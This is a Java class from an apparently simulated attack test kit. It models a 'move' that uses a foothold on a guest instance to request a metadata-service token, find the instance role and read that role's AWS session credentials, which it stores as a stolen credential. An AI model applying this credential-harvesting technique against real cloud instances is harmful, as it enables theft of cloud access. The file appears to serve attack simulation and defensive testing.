package dev.firebreak.testkit.attack;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.firebreak.testkit.guest.Guest;
import dev.firebreak.testkit.guest.Imds;
import java.time.Instant;
import software.amazon.awssdk.auth.credentials.AwsSessionCredentials;

/** Reads the credentials of an instance's role from its metadata service, through a shell. */
record RefreshFromImds() implements Move {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ROLES = "iam/security-credentials/";
    private static final int SECONDS = 21_600;

    @Override
    public String name() {
        return "refresh credentials from the instance metadata service";
    }

    @Override
    public void attempt(Foothold foothold) {
        Guest guest = foothold.implant().guest();
        if (!guest.imds().isEnabled() || guest.imds().role().isEmpty()) {
            throw new MoveFailedException("The metadata service of " + guest.instanceId() + " has no credentials");
        }
        foothold.change();
        String token = body(guest.imds().token(SECONDS));
        String role = body(guest.imds().get(ROLES, token));
        foothold.keep(credential(body(guest.imds().get(ROLES + role, token)), "role " + role + ", from IMDS"));
    }

    private static String body(Imds.Answer answer) {
        if (answer.status() != 200) {
            throw new MoveFailedException("The metadata service answered " + answer.status());
        }
        return answer.body();
    }

    private static StolenCredential credential(String text, String origin) {
        try {
            JsonNode json = JSON.readTree(text);
            var credentials = AwsSessionCredentials.create(
                    json.path("AccessKeyId").asText(),
                    json.path("SecretAccessKey").asText(),
                    json.path("Token").asText());
            return StolenCredential.session(
                    credentials, origin, Instant.parse(json.path("Expiration").asText()));
        } catch (JsonProcessingException malformed) {
            throw new IllegalStateException("Cannot read the credentials of the metadata service", malformed);
        }
    }
}
